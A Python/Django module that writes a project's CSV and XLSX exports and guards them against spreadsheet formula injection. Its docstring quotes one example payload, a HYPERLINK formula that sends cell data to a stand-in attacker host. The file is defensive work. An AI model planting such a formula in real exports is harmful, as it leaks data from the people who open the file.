"""The one CSV writer of the project: every CSV export (the assistance database, the matrices and
their open data, the statistics, the dashboard's figures, in the pages and the API) goes through
it, so that a cell can never run as a formula in a spreadsheet and Excel reads the file as UTF-8.

A title such as ``=HYPERLINK("http://evil.example/x?"&B2,"Open")``, written by a point of contact
or an offering state, would otherwise be a live formula on the secretariat's machine. OWASP's
rule (CSV injection): a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is prefixed with a single quote, which spreadsheets show as text. Numbers stay
numbers: a negative figure is not a formula.

Our own files come back (the matrices' open data is re-imported): ``restore_cell`` undoes the
prefix exactly. So that the two are inverse for every text, a text that already starts with
quotes followed by one of those characters (``'=x``) gets one more quote too; the reader then
removes exactly one from any cell that starts with quotes followed by one of them.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from django.core.exceptions import FieldDoesNotExist
from django.db.models import QuerySet
from django.http import Http404, HttpRequest, HttpResponse, StreamingHttpResponse
from django.utils import timezone
from django.utils.text import capfirst
from openpyxl import Workbook  # type: ignore[import-untyped]  # no stubs in the dev set
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE  # type: ignore[import-untyped]
from openpyxl.styles import Font  # type: ignore[import-untyped]
from openpyxl.utils import get_column_letter  # type: ignore[import-untyped]
from rest_framework import serializers
from rest_framework.renderers import BaseRenderer

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A plain number written as text ("-12", "+3.5"): Excel reads it as a number, never a formula.
PLAIN_NUMBER = re.compile(r"[-+]?\d+(?:[.,]\d+)?")
# Quotes followed by a formula start: what the writer prefixed, or a text that would read as
# prefixed and is therefore prefixed once more.
QUOTED_FORMULA = re.compile(r"'+[=+\-@\t\r]")
# The byte order mark that makes Excel read UTF-8 (accented and non-Latin names) rather than
# the machine's legacy code page.
BOM = "\ufeff"


def safe_cell(value: object) -> object:
    """A cell as it may be written: numbers as they are, formula-like text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    if QUOTED_FORMULA.match(text):
        return "'" + text
    return text


def restore_cell(text: str) -> str:
    """A text cell of one of our CSV files as it was before ``safe_cell``: the one quote the
    writer put before a formula-like text is removed, nothing else."""
    if QUOTED_FORMULA.match(text):
        return text[1:]
    return text


def safe_row(row: Iterable) -> list:
    return [safe_cell(value) for value in row]


class _Echo:
    """A file that hands back what is written: the csv module formats, we stream."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable], *, bom: bool = True) -> Iterator[str]:
    """Rows as CSV text, one line at a time (for a streaming response), the first line after
    the byte order mark."""
    writer = csv.writer(_Echo(), lineterminator="\r\n")
    if bom:
        yield BOM
    for row in rows:
        yield writer.writerow(safe_row(row))


def csv_text(rows: Iterable[Iterable], *, bom: bool = True) -> str:
    return "".join(csv_lines(rows, bom=bom))


def csv_response(filename: str, rows: Iterable[Iterable]) -> StreamingHttpResponse:
    """A CSV download, streamed row by row (an export may hold every state's matrix)."""
    response = StreamingHttpResponse(csv_lines(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["X-Content-Type-Options"] = "nosniff"
    return response


# --- Lists as CSV and XLSX ------------------------------------------------------------------------
#
# Every list that people export (the pages' "Download CSV / XLSX" links and the API's
# ``?format=csv`` / ``?format=xlsx``) is built from the list's own serializer: its fields are the
# columns, their labels (the model's verbose names, in the reader's language) the header, and a
# field the reader may not see (``FIELD_PERMISSIONS``, dropped by ``FieldPolicySerializerMixin``)
# is an empty cell. The rows are the list's rows, through the same FilterSet and ``visible_to``.

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EXPORT_FORMATS = ("csv", "xlsx")
# Wider columns than this wrap in the spreadsheet rather than push the others off the screen.
MAX_COLUMN_WIDTH = 60


@dataclass(frozen=True)
class Column:
    name: str
    header: str
    # "date", "datetime" or "text": XLSX keeps dates as dates (sortable, in the reader's format).
    kind: str = "text"


def columns_of(serializer: Any) -> list[Column]:
    """The columns of a serializer's representation, headed by the fields' labels."""
    columns = []
    for name, field in serializer.fields.items():
        if field.write_only:
            continue
        kind = "text"
        if isinstance(field, serializers.DateTimeField):
            kind = "datetime"
        elif isinstance(field, serializers.DateField):
            kind = "date"
        columns.append(Column(name, _header(serializer, name, field), kind))
    return columns


def _header(serializer: Any, name: str, field: Any) -> str:
    """The field's label; a declared field that has none of its own (DRF then makes one of its
    name, in English) takes the verbose name of the model field behind it, in the reader's
    language."""
    label = str(field.label or name)
    if label != name.replace("_", " ").capitalize():
        return label
    model = getattr(getattr(serializer, "Meta", None), "model", None)
    source = (field.source or name).split(".")[0]
    if model is not None:
        try:
            model_field = model._meta.get_field(source)
        except FieldDoesNotExist:
            return label
        # A reverse relation has no verbose name of its own: the related model's plural.
        verbose = getattr(model_field, "verbose_name", None) or getattr(
            model_field.related_model._meta, "verbose_name_plural", label
        )
        return capfirst(str(verbose))
    return label


def _flat(value: object) -> object:
    """A nested value of the API (a related object, a list) as one cell."""
    if isinstance(value, dict):
        for key in ("iso3", "name", "title", "username", "id"):
            if value.get(key) not in (None, ""):
                return value[key]
        return "; ".join(str(_flat(v)) for v in value.values())
    if isinstance(value, list | tuple):
        return "; ".join(str(_flat(v)) for v in value)
    return value


def _typed(value: object, kind: str) -> object:
    if value in (None, ""):
        return None
    if kind == "date" and isinstance(value, str):
        return date.fromisoformat(value)
    if kind == "datetime" and isinstance(value, str):
        moment = datetime.fromisoformat(value)
        # A spreadsheet knows no time zone: the time as read in the site's zone.
        return timezone.localtime(moment).replace(tzinfo=None) if moment.tzinfo else moment
    return _flat(value)


def table_rows(columns: list[Column], records: Iterable[Mapping[str, Any]]) -> Iterator[list]:
    """One row per record, a column's cell empty when the record lacks it (a hidden field)."""
    for record in records:
        yield [_typed(record.get(column.name), column.kind) for column in columns]


def _csv_cell(value: object) -> object:
    if isinstance(value, datetime | date):
        return value.isoformat()
    return value


def table_csv(columns: list[Column], records: Iterable[Mapping[str, Any]]) -> str:
    header = [column.header for column in columns]
    rows = ([_csv_cell(v) for v in row] for row in table_rows(columns, records))
    return csv_text(itertools.chain([header], rows))


def _xlsx_text(text: str) -> object:
    # Control characters (a vertical tab pasted from a word processor) are not allowed in the
    # XML of a workbook: they are left out rather than make the whole export fail.
    return safe_cell(ILLEGAL_CHARACTERS_RE.sub("", text))


def table_xlsx(
    columns: list[Column], records: Iterable[Mapping[str, Any]], *, sheet: str = "Export"
) -> bytes:
    """A workbook of one sheet: the header bold and frozen, columns as wide as their text (up
    to a limit), dates as dates, and every text a text cell (never a formula)."""
    workbook = Workbook()
    worksheet = workbook.active
    worksheet.title = sheet[:31]
    worksheet.append([column.header for column in columns])
    for cell in worksheet[1]:
        cell.font = Font(bold=True)
    widths = [len(column.header) for column in columns]
    for row in table_rows(columns, records):
        worksheet.append([_xlsx_text(v) if isinstance(v, str) else v for v in row])
        for cell, value in zip(worksheet[worksheet.max_row], row, strict=True):
            if isinstance(value, str):
                # openpyxl reads a text starting with "=" as a formula: this one is text.
                cell.data_type = "s"
            elif isinstance(value, datetime):
                cell.number_format = "yyyy-mm-dd hh:mm"
        for index, value in enumerate(row):
            widths[index] = max(widths[index], len(str(value)) if value is not None else 0)
    worksheet.freeze_panes = "A2"
    for index, width in enumerate(widths, start=1):
        worksheet.column_dimensions[get_column_letter(index)].width = min(
            width + 2, MAX_COLUMN_WIDTH
        )
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def export_file(
    fmt: str, stem: str, columns: list[Column], records: Iterable[Mapping[str, Any]]
) -> HttpResponse:
    """A list as a CSV or XLSX download named ``<stem>.<fmt>``."""
    if fmt == "xlsx":
        response = HttpResponse(table_xlsx(columns, records, sheet=stem), content_type=XLSX)
    else:
        response = HttpResponse(table_csv(columns, records), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{stem}.{fmt}"'
    response["X-Content-Type-Options"] = "nosniff"
    return response


def list_queryset(viewset: Any, user: Any) -> QuerySet[Any]:
    """The rows of an API ViewSet's list that ``user`` may see (``visible_to``), with the
    ViewSet's ``select_related`` and annotations, which its serializer relies on."""
    queryset = viewset.queryset.all()
    visible_to = getattr(queryset, "visible_to", None)
    return visible_to(user) if visible_to else queryset


def export_list(
    request: HttpRequest,
    fmt: str,
    viewset: Any,
    *,
    stem: str,
    queryset: QuerySet[Any] | None = None,
) -> HttpResponse:
    """A list page's rows, with the page's filters, as CSV or XLSX: the view behind a page's
    "Download CSV / XLSX" links. The page and the API share the ViewSet's FilterSet; the rows,
    columns and field rules are the API's list (``viewset``) for this reader."""
    if fmt not in EXPORT_FORMATS:
        raise Http404
    if queryset is None:
        queryset = list_queryset(viewset, request.user)
    filterset = viewset.filterset_class(request.GET, queryset=queryset, request=request)
    if not filterset.is_valid():
        return HttpResponse(
            "; ".join(f"{k}: {' '.join(v)}" for k, v in filterset.errors.items()),
            status=400,
            content_type="text/plain; charset=utf-8",
        )
    context = {"request": request, "acting_user": request.user}
    serializer = viewset.serializer_class(filterset.qs, many=True, context=context)
    return export_file(fmt, stem, columns_of(serializer.child), serializer.data)


class _ExportRenderer(BaseRenderer):
    """The API's ``?format=csv`` and ``?format=xlsx`` of a list (CommitteeViewSet adds them to
    every list action and leaves such a list unpaginated)."""

    def render(
        self,
        data: Any,
        accepted_media_type: str | None = None,
        renderer_context: Mapping[str, Any] | None = None,
    ) -> bytes:
        context = renderer_context or {}
        view, response = context.get("view"), context.get("response")
        if isinstance(data, list) and view is not None:
            columns = columns_of(view.get_serializer())
            records = data
        else:
            # An error (a bad filter, a refusal): its messages, one per line.
            columns = [Column("field", "field"), Column("message", "message")]
            items = data.items() if isinstance(data, Mapping) else [("detail", data)]
            records = [{"field": key, "message": _flat(value)} for key, value in items]
        stem = getattr(view, "basename", None) or "export"
        if response is not None:
            response["Content-Disposition"] = f'attachment; filename="{stem}.{self.format}"'
            response["X-Content-Type-Options"] = "nosniff"
        return self.write(columns, records, stem)

    def write(self, columns: list[Column], records: list, stem: str) -> bytes:
        raise NotImplementedError


class CSVRenderer(_ExportRenderer):
    media_type = "text/csv"
    format = "csv"
    charset = "utf-8"

    def write(self, columns: list[Column], records: list, stem: str) -> bytes:
        return table_csv(columns, records).encode()


class XLSXRenderer(_ExportRenderer):
    media_type = XLSX
    format = "xlsx"
    charset = None
    render_style = "binary"

    def write(self, columns: list[Column], records: list, stem: str) -> bytes:
        return table_xlsx(columns, records, sheet=stem)
